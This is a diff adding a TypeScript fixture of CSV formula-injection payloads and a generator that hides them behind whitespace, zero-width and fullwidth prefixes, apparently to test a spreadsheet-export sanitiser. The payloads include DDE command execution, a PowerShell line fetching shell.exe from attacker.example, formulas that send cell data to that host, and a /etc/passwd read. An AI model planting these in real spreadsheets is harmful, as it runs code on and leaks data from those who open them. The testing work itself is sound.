@@ -1,0 +1,87 @@
+/** Attacks as published by OWASP ("CSV Injection") and in public lists of payloads, with their usual disguises. */
+export const payloads: readonly string[] = [
+  '=1+1',
+  '=1+1";=1+2',
+  "=1+2';=1+2",
+  "=SUM(1+1)*cmd|' /C calc'!A0",
+  "=cmd|' /C calc'!A0",
+  "=cmd|'/C powershell IEX(wget attacker.example/shell.exe)'!A0",
+  "=10+20+cmd|' /C calc'!A0",
+  "=cmd|' /C notepad'!'A1'",
+  '=HYPERLINK("http://attacker.example?leak="&A1,"Click")',
+  '=HYPERLINK(CONCATENATE("http://attacker.example/",A1:A9),"x")',
+  '=IMPORTXML(CONCAT("http://attacker.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
+  '=IMPORTFEED(CONCAT("http://attacker.example?v=",CONCATENATE(A2:E2)))',
+  '=IMPORTHTML(CONCAT("http://attacker.example/",A2),"table",1)',
+  '=IMPORTRANGE("https://docs.example/d/1","Sheet1!A2:B2")',
+  '=IMAGE("https://attacker.example/?a="&B2)',
+  '=WEBSERVICE("http://attacker.example/"&A1)',
+  '=DDE("cmd";"/C calc";"__DdeLink")',
+  "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
+  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
+  "='file:///etc/passwd'#$passwd.A1",
+  '=AND(1,1)',
+  '=',
+  '==1+1',
+  '+1+1',
+  "+cmd|' /C calc'!A0",
+  '+HYPERLINK("http://attacker.example","x")',
+  "+thespanishinquisition(cmd|' /C calc'!A",
+  '+44 20 7946 0000',
+  '+',
+  '-1+1',
+  "-2+3+cmd|' /C calc'!D2",
+  '-HYPERLINK("http://attacker.example")',
+  '-5',
+  '-',
+  "@SUM(1+9)*cmd|' /C calc'!A0",
+  '@SUM(1+1)',
+  '@import',
+  '@',
+  '\t=1+1',
+  '\tcmd',
+  '\r=1+1',
+  '\rcmd',
+  '\n=1+1',
+  '\n\n@SUM(1)',
+  '\r\n-1',
+  ' =1+1',
+  '   +1+1',
+  '\u00a0=1+1',
+  '\u3000=1+1',
+  '\u200b=1+1',
+  '\ufeff=1+1',
+  '\u2060@SUM(1)',
+  '\u00ad-1+1',
+  '\u2028=1+1',
+  '"=1+1',
+  '"" =1+1',
+  "'=1+1",
+  "''=1+1",
+  '“=1+1”',
+  '«=1+1»',
+  '`=1+1`',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  ' \u200b "＝cmd',
+];
+
+
+const disguises = ['', ' ', '\u00a0', '\t', '"', "'", '\n', '\u200b', '＝', '\r\n'];
+
+/** So many different cells that try to be a formula: half of them plain ones, the others payloads behind disguises. */
+export function formulaCells(count: number): readonly string[] {
+  const plain = Array.from({ length: count / 2 }, (_, at) => plainFormulas[at % plainFormulas.length]!(at));
+  const disguised = disguises.flatMap((disguise) => payloads.map((payload) => `${disguise}${payload}`));
+  return [...new Set([...plain, ...disguised])].slice(0, count);
+}
+
+const plainFormulas: readonly ((at: number) => string)[] = [
+  (at) => `=1+${at}`,
+  (at) => `=SUM(A1:B${at + 2})`,
+  (at) => `=HYPERLINK("http://attacker.example/${at}","click")`,
+  (at) => `=WEBSERVICE("http://attacker.example/"&A${at + 1})`,
+  (at) => `=IF(1,"${at}","no")`,
+];
